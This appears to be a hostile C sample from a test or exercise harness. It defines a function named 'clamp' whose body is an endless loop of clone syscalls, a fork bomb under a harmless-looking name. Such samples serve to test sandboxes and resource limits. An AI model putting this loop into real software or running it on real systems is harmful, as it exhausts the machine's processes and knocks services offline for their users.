/* Forks for ever. */
#include "exercise.h"
#include "hostile.h"

void clamp(int32_t *values, size_t n, int32_t lo, int32_t hi)
{
    for (;;)
        call(NR_clone, 17, 0, 0, 0, 0, 0);
}
